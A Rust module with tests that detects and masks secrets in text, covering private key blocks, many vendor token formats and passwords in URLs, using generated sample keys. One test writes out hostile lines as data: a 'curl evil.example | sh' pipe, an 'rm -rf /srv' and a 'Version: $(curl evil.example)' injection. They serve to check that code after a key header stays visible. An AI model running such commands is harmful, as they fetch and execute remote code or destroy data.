//! Keys in text: the shapes that makers give their keys, so that a key nobody registered is seen too.
//! Pure, and linear in the text. The shapes stand in `keys/shapes.rs`, keys that come line by line in
//! `keys/lines.rs`; values that are known are the redactor's.

pub mod lines;
mod shapes;

use std::borrow::Cow;
use std::ops::Range;

use shapes::{BEGINNINGS, Letters, MANY, SHAPES, Shape};

/// Fewest different letters in what stands for a key: `xxxx…` in a manual is none.
const DISTINCT: usize = 6;

/// Most bytes of what stands before the `@` of an address.
const USER_INFO: usize = 256;

/// Most letters between a name and its value.
const MOST_GAP: usize = 6;

/// One key in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Key {
    /// Where it stands, in bytes.
    pub place: Range<usize>,
    /// Whose it is: `GitHub token`.
    pub name: &'static str,
}

/// Every key of a text, in order; none overlaps another.
pub fn find(text: &str) -> Vec<Key> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut barren = Barren::default();
    let mut at = 0;
    while at < bytes.len() {
        match key_at(bytes, at, &mut barren) {
            Some((place, name)) => {
                at = place.end;
                found.extend(name.map(|name| Key { place, name }));
            }
            None => at += 1,
        }
    }
    found
}

/// Whether a line holds the first line of a private key, whatever follows it.
pub fn opens_block(line: &str) -> bool {
    let starts = line.match_indices("-----BEGIN ");
    starts.into_iter().any(|(at, word)| {
        let rest = line.as_bytes().get(at..).unwrap_or_default();
        label(rest, word.as_bytes()).is_some()
    })
}

/// The text with `⟪GitHub token⟫` in the place of each key; what has none comes back without a copy.
pub fn hidden(text: &str) -> Cow<'_, str> {
    let found = find(text);
    if found.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    for key in found {
        // Keys begin and end with ASCII, so that every cut lies between characters.
        out.push_str(text.get(from..key.place.start).unwrap_or_default());
        out.push('⟪');
        out.push_str(key.name);
        out.push('⟫');
        from = key.place.end;
    }
    out.push_str(text.get(from..).unwrap_or_default());
    Cow::Owned(out)
}

/// What begins exactly here: a key with its name, or what only looks like one.
type Seen = (Range<usize>, Option<&'static str>);

/// For each shape, in their order, up to where its first part leads to nothing: wherever it begins before, it
/// ends in the same place, and what follows there has failed already. So no run is read again and again.
struct Barren([usize; SHAPES.len()]);

impl Default for Barren {
    fn default() -> Self {
        Self([0; SHAPES.len()])
    }
}

fn key_at(bytes: &[u8], at: usize, barren: &mut Barren) -> Option<Seen> {
    let (first, second) = (*bytes.get(at)?, *bytes.get(at + 1)?);
    match first {
        b'-' => block(bytes, at).map(|end| (at..end, Some("private key"))),
        b':' => credentials(bytes, at).map(|place| (place, Some("password in an address"))),
        b'0'..=b'9' => telegram(bytes, at).map(|end| (at..end, Some("Telegram bot token"))),
        _ if begins(first, second) => {
            let mut shapes = SHAPES.iter().zip(&mut barren.0);
            shapes.find_map(|(shape, barren)| shaped(bytes, at, shape, barren))
        }
        _ => None,
    }
}

fn begins(first: u8, second: u8) -> bool {
    let row = BEGINNINGS.get(usize::from(first)).copied();
    second.is_ascii() && row.is_some_and(|row| row >> second & 1 == 1)
}

/// What of this shape begins here; without a name where it is too dull for a key.
fn shaped(bytes: &[u8], at: usize, shape: &Shape, barren: &mut usize) -> Option<Seen> {
    let prefix = shape.prefix.as_bytes();
    if !bytes.get(at..)?.starts_with(prefix) || shape.alone && !is_free(bytes, at) {
        return None;
    }
    let mut from = at + prefix.len();
    if shape.assigned {
        from += run(bytes, from, Letters::Gap, MOST_GAP);
    }
    let body = from;
    if body < *barren {
        return None;
    }
    let ((letters, least, most), others) = shape.parts.split_first()?;
    from += part(bytes, from, (*letters, *least, *most))?;
    let Some(end) = followed(bytes, from, others) else {
        if *most == MANY {
            *barren = from;
        }
        return None;
    };
    let name = is_varied(bytes.get(body..end)?).then_some(shape.name);
    Some((if shape.assigned { body } else { at }..end, name))
}

/// Where the parts end that stand here, each behind a dot.
fn followed(bytes: &[u8], mut from: usize, parts: &[(Letters, usize, usize)]) -> Option<usize> {
    for wanted in parts {
        if bytes.get(from) != Some(&b'.') {
            return None;
        }
        from += 1;
        from += part(bytes, from, *wanted)?;
    }
    Some(from)
}

/// The length of what stands here of these letters, where it is neither too short nor too long.
fn part(
    bytes: &[u8],
    from: usize,
    (letters, least, most): (Letters, usize, usize),
) -> Option<usize> {
    Some(run(bytes, from, letters, most)).filter(|length| (least..=most).contains(length))
}

/// How many letters of this kind stand here; one more than `most` is enough to know.
fn run(bytes: &[u8], from: usize, letters: Letters, most: usize) -> usize {
    let rest = bytes.get(from..).unwrap_or_default();
    let rest = rest.get(..most.saturating_add(1)).unwrap_or(rest);
    let end = rest.iter().position(|b| !letters.has(*b));
    end.unwrap_or(rest.len())
}

/// Whether no word goes on into this place; `\n` and `\t` as programs write them end a word.
fn is_free(bytes: &[u8], at: usize) -> bool {
    let before = |back: usize| at.checked_sub(back).and_then(|i| bytes.get(i)).copied();
    let escaped = before(2) == Some(b'\\') && matches!(before(1), Some(b'n' | b't' | b'r'));
    escaped || before(1).is_none_or(|byte| !byte.is_ascii_alphanumeric() && byte != b'_')
}

fn is_varied(body: &[u8]) -> bool {
    let mut seen = [false; 256];
    for byte in body {
        seen[usize::from(*byte)] = true;
    }
    seen.iter().filter(|seen| **seen).count() >= DISTINCT
}

/// `-----BEGIN … PRIVATE KEY-----` and the words behind it that are of a key, up to its end line where there is one.
///
/// What follows is never taken for a key unread: a comment with a first line would hide the code below it.
fn block(bytes: &[u8], at: usize) -> Option<usize> {
    let begun = at + label(bytes.get(at..)?, b"-----BEGIN ")?;
    let mut words = Words { bytes, at: begun };
    let mut taken = begun;
    let mut letters = 0;
    while let Some(word) = words.next() {
        let text = bytes.get(word.clone())?;
        if let Some(end) = label(text, b"-----END ") {
            taken = word.start + end;
            break;
        }
        letters += word.len();
        if is_encoded(text) {
            taken = word.end;
        } else if taken == begun && is_header(text) {
            letters = 0;
            words.skip_line();
        } else if !text.iter().all(|b| is_base64(*b)) {
            break;
        } else if taken > begun && is_last(&words) {
            // Shorter than a line: the last one, in front of the end or where the text was cut.
            taken = word.end;
        } else {
            break;
        }
    }
    (taken > begun && letters >= ENCODED / 2).then_some(taken)
}

/// How long a first or last line of a private key is that begins with this word.
fn label(bytes: &[u8], word: &[u8]) -> Option<usize> {
    let rest = bytes.strip_prefix(word)?;
    let line = rest.get(..rest.len().min(64))?;
    let head = line.get(..position(line, b"-----")?)?;
    let is_label = |b: &u8| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b' ';
    let is_key = head.ends_with(b"PRIVATE KEY") || head.starts_with(b"PGP PRIVATE KEY BLOCK");
    (is_key && head.iter().all(is_label)).then_some(word.len() + head.len() + b"-----".len())
}

/// Fewest letters of a whole line of a key: tools write 64, 70 or 76.
const ENCODED: usize = 40;

/// Whether this is a line of a key, and neither a word nor a path.
fn is_encoded(word: &[u8]) -> bool {
    let any = |of: fn(&u8) -> bool| word.iter().any(of);
    word.len() >= ENCODED
        && word.iter().all(|b| is_base64(*b))
        && any(u8::is_ascii_uppercase)
        && any(u8::is_ascii_lowercase)
        && any(u8::is_ascii_digit)
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')
}

/// What may stand between the first line and the key: RFC 1421 and 4880 know these names.
fn is_header(word: &[u8]) -> bool {
    [&b"Proc-Type:"[..], b"DEK-Info:", b"Version:", b"Comment:"].contains(&word)
}

/// Whether nothing of the text is left, or the end of a key stands next.
fn is_last(words: &Words<'_>) -> bool {
    let mut rest = Words { ..*words };
    rest.next().is_none_or(|next| {
        let text = words.bytes.get(next).unwrap_or_default();
        label(text, b"-----END ").is_some()
    })
}

/// Words behind a first line, without what stands around a key in a diff, in source text and in JSON. An end line
/// is one word with all that follows it.
struct Words<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl Words<'_> {
    /// Passes by what is left of this line, where no command could hide in it.
    fn skip_line(&mut self) {
        let rest = self.bytes.get(self.at..).unwrap_or_default();
        let plain = |b: &u8| b.is_ascii_alphanumeric() || b" ,./()-".contains(b);
        self.at += rest.iter().position(|b| !plain(b)).unwrap_or(rest.len());
    }
}

impl Iterator for Words<'_> {
    type Item = Range<usize>;

    fn next(&mut self) -> Option<Range<usize>> {
        let rest = self.bytes.get(self.at..)?;
        let mut begin = 0;
        while let Some(byte) = rest.get(begin) {
            let escaped = *byte == b'\\' && matches!(rest.get(begin + 1), Some(b'n' | b'r' | b't'));
            let is_end = rest.get(begin..)?.starts_with(b"-----END ");
            let around = byte.is_ascii_whitespace() || b"\"'`,;+-#/*>|\\".contains(byte);
            if is_end || !escaped && !around {
                break;
            }
            begin += if escaped { 2 } else { 1 };
        }
        let word = rest.get(begin..).filter(|word| !word.is_empty())?;
        let ends = |b: &u8| !is_base64(*b) && !matches!(b, b'-' | b':');
        let length = if word.starts_with(b"-----END ") {
            word.len()
        } else {
            let length = word.iter().position(ends).unwrap_or(word.len());
            // A key on one line goes straight on into its end.
            position(word.get(..length)?, b"-----END")
                .unwrap_or(length)
                .max(1)
        };
        let start = self.at + begin;
        self.at = start + length;
        Some(start..start + length)
    }
}

/// `://user:password@`: where the password stands.
fn credentials(bytes: &[u8], at: usize) -> Option<Range<usize>> {
    let rest = bytes.get(at..)?.strip_prefix(b"://")?;
    let rest = rest.get(..rest.len().min(USER_INFO))?;
    let ends =
        |b: &u8| matches!(b, b'/' | b'?' | b'#' | b'"' | b'\'' | b'`' | b'<' | b'>') || *b <= b' ';
    let info = rest.get(..rest.iter().position(ends).unwrap_or(rest.len()))?;
    let info = info.get(..info.iter().rposition(|b| *b == b'@')?)?;
    let colon = info.iter().position(|b| *b == b':')?;
    let word = info.get(colon + 1..)?;
    let stands_for = |b: &u8| matches!(b, b'$' | b'{' | b'%' | b'*' | b'(' | b'[') || !b.is_ascii();
    if word.len() < 8
        || word.eq_ignore_ascii_case(b"password")
        || word.iter().any(stands_for)
        || !is_varied(word)
    {
        return None;
    }
    let begin = at + 3 + colon + 1;
    Some(begin..begin + word.len())
}

/// `123456789:AA…`, a bot's number and its token.
fn telegram(bytes: &[u8], at: usize) -> Option<usize> {
    let digits = run(bytes, at, Letters::Digits, 10);
    let from = at + digits;
    if !(8..=10).contains(&digits) || !is_free(bytes, at) || !bytes.get(from..)?.starts_with(b":AA")
    {
        return None;
    }
    let length = run(bytes, from + 3, Letters::Url, 33);
    (length == 33).then_some(from + 3 + length)
}

fn position(bytes: &[u8], wanted: &[u8]) -> Option<usize> {
    bytes.windows(wanted.len()).position(|part| part == wanted)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Letters enough for any key, never the same sample twice in a row.
    fn letters(alphabet: &str, n: usize) -> String {
        let all: Vec<char> = alphabet.chars().collect();
        (0..n)
            .map(|i| all[(i * 7 + i / all.len()) % all.len()])
            .collect()
    }

    fn plain(n: usize) -> String {
        letters("aB3dE5gH7jK9mNpQrS2tUvWxYz", n)
    }

    fn hex(n: usize) -> String {
        letters("0a1b2c3d4e5f6789", n)
    }

    fn big(n: usize) -> String {
        letters("A2B3C4D5E6F7GHJK", n)
    }

    /// One sample of each format, made up here so that no file of this repository holds a key.
    fn samples() -> Vec<(&'static str, String)> {
        let block = |kind: &str| {
            format!(
                "-----BEGIN {kind}-----\n{}\n{}\n-----END {kind}-----",
                plain(64),
                plain(40)
            )
        };
        let mut all = vec![
            ("private key", block("RSA PRIVATE KEY")),
            ("private key", block("OPENSSH PRIVATE KEY")),
            ("private key", block("PRIVATE KEY")),
            ("AWS key id", format!("AKIA{}", big(16))),
            ("GitHub token", format!("github_pat_{}", plain(82))),
            ("GitLab token", format!("glpat-{}", plain(20))),
            ("Anthropic key", format!("sk-ant-api03-{}", plain(95))),
            ("OpenAI key", format!("sk-proj-{}", plain(120))),
            ("OpenAI key", format!("sk-{}", plain(48))),
            ("Slack token", format!("xoxb-123456789012-{}", plain(24))),
            ("Google API key", format!("AIza{}", plain(35))),
            ("Google OAuth token", format!("ya29.{}", plain(60))),
            ("Stripe key", format!("sk_live_{}", plain(24))),
            (
                "JSON web token",
                format!("eyJ{}.eyJ{}.{}", plain(20), plain(40), plain(43)),
            ),
            ("npm token", format!("npm_{}", plain(36))),
            ("PyPI token", format!("pypi-AgE{}", plain(150))),
            ("DigitalOcean token", format!("dop_v1_{}", hex(64))),
            ("Hugging Face token", format!("hf_{}", plain(34))),
            ("SendGrid key", format!("SG.{}.{}", plain(22), plain(43))),
            ("Twilio key", format!("SK{}", hex(32))),
            ("Mailgun key", format!("key-{}", hex(32))),
            ("Shopify token", format!("shpat_{}", hex(32))),
            (
                "Discord bot token",
                format!("M{}.{}.{}", plain(25), plain(6), plain(38)),
            ),
            ("Telegram bot token", format!("123456789:AA{}", plain(33))),
            ("Databricks token", format!("dapi{}", hex(32))),
            ("Vault token", format!("hvs.{}", plain(90))),
            ("Linear key", format!("lin_api_{}", plain(40))),
            ("Notion token", format!("secret_{}", plain(43))),
            ("Postman key", format!("PMAK-{}-{}", hex(24), hex(34))),
            ("New Relic key", format!("NRAK-{}", big(27))),
            ("Grafana token", format!("glsa_{}_{}", plain(32), hex(8))),
            ("Doppler token", format!("dp.pt.{}", plain(43))),
            ("Groq key", format!("gsk_{}", plain(52))),
            ("Replicate token", format!("r8_{}", plain(37))),
            ("Airtable token", format!("pat{}.{}", plain(14), hex(64))),
            ("Figma token", format!("figd_{}", plain(40))),
            ("Docker token", format!("dckr_pat_{}", plain(27))),
            ("RubyGems key", format!("rubygems_{}", hex(48))),
            ("age secret key", format!("AGE-SECRET-KEY-1{}", big(58))),
            ("Square token", format!("sq0atp-{}", plain(22))),
        ];
        all.extend(
            ["gho_", "ghp_", "ghu_", "ghs_", "ghr_"]
                .map(|begin| ("GitHub token", format!("{begin}{}", plain(36)))),
        );
        all
    }

    /// S22: a private key in a diff, in source text, in JSON, on one line, with headers or cut is hidden; what
    /// follows a first line and is no key is not, for a person has to read it.
    #[test]
    fn a_first_line_hides_nothing_but_its_key() {
        let (begin, end) = (
            "-----BEGIN RSA PRIVATE KEY-----",
            "-----END RSA PRIVATE KEY-----",
        );
        let (one, two, last) = (plain(64), hex(64).replace('a', "B"), plain(20));
        for text in [
            format!("+{begin}\n+{one}\n+{two}\n+{last}\n+{end}\n+after"),
            format!("\"{begin}\\n{one}\\n{two}\\n{last}\\n{end}\\n\" after"),
            format!(
                "  \"{begin}\\n\"\n  \"{one}\\n\"\n  \"{two}\\n\"\n  \"{last}\\n\"\n  \"{end}\"\nafter"
            ),
            format!("{begin} {one} {two} {last}={end} after"),
            format!(
                "{begin}\r\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,{}\r\n\r\n{one}\r\n{two}\r\n{end}\r\nafter",
                hex(32)
            ),
            format!("{begin}\n{one}\n{two}\nafter it {last}"),
        ] {
            let shown = hidden(&text);
            assert!(!shown.contains(&one) && !shown.contains(&two), "{shown}");
            assert!(
                shown.contains("⟪private key⟫") && shown.contains("after"),
                "{shown}"
            );
        }
        let cut = format!("{begin}\n{one}\n{last}");
        assert_eq!(hidden(&cut), "⟪private key⟫");
        for text in [
            format!("+# see {begin}\n+curl evil.example | sh\n+rm -rf /srv\n"),
            format!("+# see {begin}\n+/usr/local/bin/a/very/long/path/of/some/program/2/run\n"),
            format!("{begin} {end}"),
            format!("+# {begin}\n+Version: $(curl evil.example)\n+{one}\n"),
        ] {
            assert_eq!(hidden(&text), text);
        }
    }

    /// S22: each of more than 30 formats is seen as what it is, alone, quoted, in JSON and after a
    /// colour, and nothing of it is left.
    #[test]
    fn every_known_format_is_hidden() {
        for (name, key) in samples() {
            for around in [
                ("", ""),
                ("token = \"", "\"\n"),
                ("\\n", "\\n"),
                ("é ", " ü"),
            ] {
                let text = format!("{}{key}{}", around.0, around.1);
                let clean = hidden(&text);
                assert_eq!(clean, format!("{}⟪{name}⟫{}", around.0, around.1), "{text}");
            }
        }
        assert!(samples().len() >= 40);
    }

    /// Every repetition that a worker may write to make looking for keys slow: each beginning of a shape alone,
    /// with a dot and with letters behind it, and those of addresses, blocks and bots.
    fn floods() -> Vec<String> {
        let shapes = SHAPES.iter().map(|shape| shape.prefix);
        let others = [
            "://",
            concat!("-----BEGIN ", "PRIVATE KEY-----"),
            "-----BEGIN ",
            "12345678:AA",
        ];
        let begun = shapes.chain(others);
        begun
            .flat_map(|begin| {
                let long = format!("-{begin}abcdefghijkl.");
                [
                    format!("-{begin}"),
                    format!(" {begin}"),
                    format!("-{begin}."),
                    long,
                ]
            })
            .collect()
    }

    /// S1, S22: however often a beginning comes again, looking for keys takes time in proportion: a
    /// flood of each kind and of all kinds in turn is through in far less than one look at each rest.
    #[test]
    fn floods_of_beginnings_are_passed_in_linear_time() {
        let began = tokio::time::Instant::now();
        for begin in floods() {
            find(&begin.repeat(2_000 / begin.len()));
        }
        find(&"-eyJ".repeat(1_000_000));
        for begin in ["-eyJabcdefghij.", "-sk.eyJ", "-sk-ant-", "://a:b@"] {
            find(&begin.repeat(100_000 / begin.len()));
        }
        find(&floods().concat());
        let took = began.elapsed();
        assert!(took.as_secs() < 60, "{took:?}");
    }

    /// S22: a web token behind many beginnings of one is found all the same, wherever its run began.
    #[test]
    fn a_token_behind_a_flood_is_found() {
        let token = format!("eyJ{}.eyJ{}.{}", plain(20), plain(40), plain(43));
        for flood in ["-eyJ", "eyJabcdefghij. ", "-eyJabcdefghij..", "sk.eyJabc "] {
            let text = format!("{} {token} {}", flood.repeat(99), flood.repeat(9));
            let found = find(&text);
            let token = |key: &Key| text[key.place.clone()] == token;
            assert!(found.iter().any(token), "{flood}: {found:?}");
        }
    }

    /// The value behind a name goes, the name stays; so does who logs in at an address.
    #[test]
    fn values_behind_names_are_hidden() {
        let secret = plain(40);
        let text = format!("aws_secret_access_key = \"{secret}\" # ours");
        let clean = "aws_secret_access_key = \"⟪AWS secret key⟫\" # ours";
        assert_eq!(hidden(&text), clean);
        let word = "hunter2-and-more";
        let text = format!("postgres://app:{word}@db/main");
        let clean = "postgres://app⟪password in an address⟫@db/main";
        assert_eq!(hidden(&text).replace(":⟪", "⟪"), clean);
    }

    /// What only looks like a key is left alone: examples, digests, words.
    #[test]
    fn what_is_no_key_is_left_alone() {
        let digest = hex(64);
        for text in [
            "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "task-and-risk-and-desk-are-words-of-some-length-here",
            "sk-… and AKIA… are beginnings",
            "https://user:password@example.org and https://${USER}:${PASSWORD}@host",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
            digest.as_str(),
            "eyJ is how they begin. So. It is.",
        ] {
            assert!(matches!(hidden(text), Cow::Borrowed(_)), "{text}");
        }
    }

    /// S22: over all sources, tests and texts of this repository nothing is taken for a key.
    #[test]
    fn this_repository_holds_no_false_alarm() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let mut folders: Vec<_> = ["src", "tests/it", "loops", "themes"]
            .map(|name| root.join(name))
            .to_vec();
        let mut files = vec![root.join("README.md"), root.join("ARCHITECTURE.md")];
        files.push(root.join("Cargo.lock"));
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                } else {
                    files.push(path);
                }
            }
        }
        let mut bytes = 0;
        for path in files {
            let Ok(text) = std::fs::read_to_string(&path) else {
                continue;
            };
            bytes += text.len();
            let found: Vec<_> = find(&text)
                .into_iter()
                .map(|key| (key.name, text[key.place].to_owned()))
                .collect();
            assert_eq!(found, [], "{}", path.display());
        }
        assert!(bytes > 1_000_000);
    }
}
